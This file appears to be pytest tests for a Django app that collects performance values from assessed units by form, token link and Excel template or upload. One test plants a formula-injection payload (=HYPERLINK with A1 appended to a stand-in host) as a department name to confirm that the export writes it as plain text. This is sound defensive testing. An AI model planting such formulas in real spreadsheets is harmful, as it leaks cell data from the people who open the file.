"""Data entry by the assessed units: form, questionnaire link (token), Excel template and upload."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from domain import spreadsheet
from domain.performance import services
from domain.performance.errors import NodeInvalid, TokenInvalid, ValuesImportError, ValuesInvalid
from domain.performance.excel import values_template_xlsx
from domain.performance.models import RoundUnit

from .builders import ORGANISER, VALUES, build_round

pytestmark = pytest.mark.django_db


def _fresh(unit: RoundUnit) -> RoundUnit:
    return RoundUnit.objects.get(pk=unit.pk)


def test_form_values_are_stored_canonically() -> None:
    """Numbers and percentages are kept as exact decimal strings (95% → "95"), with how they came in."""
    a = build_round(submit=False, manual=False)
    services.values_submit(
        actor=ORGANISER,
        unit_id=a.units["A"].pk,
        values={"total_count": "1,200", "shared_count": 3.5, "timely_rate": "95.5%", "open_sets": "0", "open_rate": ""},
    )
    unit = _fresh(a.units["A"])
    assert unit.values == {"total_count": "1200", "shared_count": "3.5", "timely_rate": "95.5", "open_sets": "0"}
    assert unit.submitted_via == "form" and unit.submitted_at is not None


def test_every_bad_form_field_is_named() -> None:
    """A submission with several mistakes names each bad field and stores nothing."""
    a = build_round(submit=False, manual=False)
    with pytest.raises(ValuesInvalid) as caught:
        services.values_submit(
            actor=ORGANISER,
            unit_id=a.units["A"].pk,
            values={"total_count": "很多", "timely_rate": "120", "open_sets": 3, "nonsense": 1},
        )
    assert set(caught.value.errors) == {"total_count", "shared_count", "timely_rate", "nonsense"}
    assert "必填" in caught.value.errors["shared_count"]
    assert "0 到 100" in caught.value.errors["timely_rate"]
    assert _fresh(a.units["A"]).values == {}


def test_field_names_must_be_formula_variables() -> None:
    """A field name that a formula could not use as a variable is refused, with the reason."""
    a = build_round(submit=False, manual=False)
    for name in ("1st", "共享数", "max_score", "class", "_x"):
        with pytest.raises(NodeInvalid):
            services.round_field_add(actor=ORGANISER, round_id=a.round.pk, name=name, label=f"字段{name}")


def test_a_unit_submits_by_its_questionnaire_link() -> None:
    """The token in a unit's link submits that unit's values without login, and nobody else's."""
    a = build_round(submit=False, manual=False)
    tokens = {u.token for u in RoundUnit.objects.filter(round=a.round)}
    assert len(tokens) == 5 and all(len(t) >= 32 for t in tokens)
    unit = services.values_submit_by_token(token=a.units["B"].token, values=VALUES["B"])
    assert unit.pk == a.units["B"].pk and unit.submitted_via == "link"
    assert _fresh(a.units["B"]).values["shared_count"] == "100"
    assert _fresh(a.units["A"]).values == {}


def test_a_wrong_renewed_or_closed_link_is_refused() -> None:
    """Unknown tokens, a token replaced by a new one, and links after collection closed submit nothing."""
    a = build_round(submit=False, manual=False)
    with pytest.raises(TokenInvalid):
        services.values_submit_by_token(token="not-a-token", values=VALUES["A"])
    old = a.units["A"].token
    renewed = services.unit_token_renew(unit_id=a.units["A"].pk, actor=ORGANISER)
    with pytest.raises(TokenInvalid):
        services.values_submit_by_token(token=old, values=VALUES["A"])
    services.round_collection_close(actor=ORGANISER, round_id=a.round.pk)
    with pytest.raises(TokenInvalid):
        services.values_submit_by_token(token=renewed.token, values=VALUES["A"])
    assert _fresh(a.units["A"]).values == {}


def test_the_excel_template_has_a_row_per_unit_and_a_column_per_field() -> None:
    """The template lists every unit (benchmarks too) by code and name under the field labels, with current values."""
    a = build_round(manual=False)
    sheet = load_workbook(io.BytesIO(values_template_xlsx(round_id=a.round.pk))).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("单位编码", "单位名称", "目录总数", "已共享目录数", "共享及时率", "开放数据集数", "开放比例")
    assert {(r[0], r[1]) for r in rows[1:]} == {
        (u.department.code, u.department.name)
        for u in RoundUnit.objects.filter(round=a.round).select_related("department")
    }
    row_a = next(r for r in rows if r[0] == a.units["A"].department.code)
    assert row_a[2:] == (60, 45, 96, 40, 70)


def test_the_excel_template_never_writes_a_name_as_a_formula() -> None:
    """A unit or field named like a formula reaches the clerk's Excel as plain text, never a live formula."""
    a = build_round(manual=False)
    department = a.units["A"].department
    department.name = '=HYPERLINK("http://x/?"&A1,"点此")'
    department.save()
    sheet = load_workbook(io.BytesIO(values_template_xlsx(round_id=a.round.pk))).worksheets[0]
    cell = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == department.code)
    assert (cell.value, cell.data_type) == (department.name, "s")


def _upload(rows: list[list[object]], percent_cells: tuple[str, ...] = ()) -> io.BytesIO:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    for ref in percent_cells:
        sheet[ref].number_format = "0%"
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


HEADER = ["单位编码", "单位名称", "目录总数", "已共享目录数", "共享及时率", "开放数据集数", "开放比例"]


def test_a_good_excel_file_imports_every_row() -> None:
    """Rows are matched by unit code; a cell formatted as a percentage (0.96) means 96 %."""
    a = build_round(submit=False, manual=False)
    code = {k: u.department.code for k, u in a.units.items()}
    file = _upload(
        [HEADER, [code["A"], "", 60, 45, 0.96, 40, None], [code["E"], "上海", 50, 50, "99%", 100, 90]],
        percent_cells=("E2",),
    )
    assert services.values_upload(actor=ORGANISER, round_id=a.round.pk, file=file) == 2
    assert _fresh(a.units["A"]).values == {
        "total_count": "60",
        "shared_count": "45",
        "timely_rate": "96",
        "open_sets": "40",
    }
    assert _fresh(a.units["E"]).values["timely_rate"] == "99" and _fresh(a.units["E"]).submitted_via == "excel"


def test_bad_excel_rows_are_all_reported_and_nothing_is_imported() -> None:
    """Every bad row is reported with its row number and reason; the good rows are not imported either."""
    a = build_round(submit=False, manual=False)
    code = {k: u.department.code for k, u in a.units.items()}
    file = _upload(
        [
            HEADER,
            [code["A"], "", 60, 45, 96, 40, 70],  # row 2: good
            [code["B"], "", "八十", 45, 96, 40, 70],  # row 3: not a number
            ["999999", "", 1, 1, 1, 1, 1],  # row 4: not a unit of the round
            [code["C"], "", 30, None, 150, 41, 60],  # row 5: required missing, percent out of range
            [code["A"], "", 60, 45, 96, 40, 70],  # row 6: unit twice
            [code["D"], "", 10, 5, 90, 2, "很高"],  # row 7: not a percentage
        ]
    )
    with pytest.raises(ValuesImportError) as caught:
        services.values_upload(actor=ORGANISER, round_id=a.round.pk, file=file)
    reported = {(e.row, e.column) for e in caught.value.errors}
    assert reported == {
        (3, "目录总数"),
        (4, "单位编码"),
        (5, "已共享目录数"),
        (5, "共享及时率"),
        (6, "单位编码"),
        (7, "开放比例"),
    }
    assert "第 6 行" in caught.value.message and "与第 2 行单位重复" in caught.value.message
    assert all(u.values == {} for u in RoundUnit.objects.filter(round=a.round))


def test_an_excel_file_with_wrong_columns_or_no_workbook_is_refused() -> None:
    """A missing required column or an unknown column is reported on row 1; a non-xlsx file as a whole."""
    a = build_round(submit=False, manual=False)
    file = _upload(
        [["单位编码", "目录总数", "已共享目录数", "共享及时率", "开放数据集数", "备注"], ["330101", 1, 1, 1, 1, "x"]]
    )
    with pytest.raises(ValuesImportError) as caught:
        services.values_upload(actor=ORGANISER, round_id=a.round.pk, file=file)
    assert {(e.row, e.column) for e in caught.value.errors} == {(1, "备注")}
    file = _upload([["单位编码", "目录总数"], ["330101", 1]])
    with pytest.raises(ValuesImportError) as caught:
        services.values_upload(actor=ORGANISER, round_id=a.round.pk, file=file)
    assert [e.row for e in caught.value.errors] == [1, 1, 1]  # 已共享目录数, 共享及时率, 开放数据集数
    with pytest.raises(ValuesImportError) as caught:
        services.values_upload(actor=ORGANISER, round_id=a.round.pk, file=io.BytesIO(b"not a workbook"))
    assert caught.value.errors[0].row == 0


def test_an_excel_file_over_the_row_or_unzipped_size_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """Like every importer, a data sheet is refused at the first data row over the row limit (naming the
    limit), and as a whole when it unpacks larger than allowed; no unit's values are stored."""
    a = build_round(submit=False, manual=False)
    code = {k: u.department.code for k, u in a.units.items()}
    header: list[object] = list(HEADER)
    good: list[list[object]] = [[code[k], "", 60, 45, 96, 40, 70] for k in ("A", "B", "C")]
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 2)
    with pytest.raises(ValuesImportError) as caught:
        services.values_upload(actor=ORGANISER, round_id=a.round.pk, file=_upload([header, *good]))
    assert [(e.row, e.column) for e in caught.value.errors] == [(4, "")]
    assert "超过 2 行" in caught.value.message

    monkeypatch.setattr(spreadsheet, "MAX_UNZIPPED_BYTES", 1024)
    with pytest.raises(ValuesImportError) as caught:
        services.values_upload(actor=ORGANISER, round_id=a.round.pk, file=_upload([header, good[0]]))
    assert [e.row for e in caught.value.errors] == [0] and "解压后超过" in caught.value.message
    assert all(u.values == {} for u in RoundUnit.objects.filter(round=a.round))
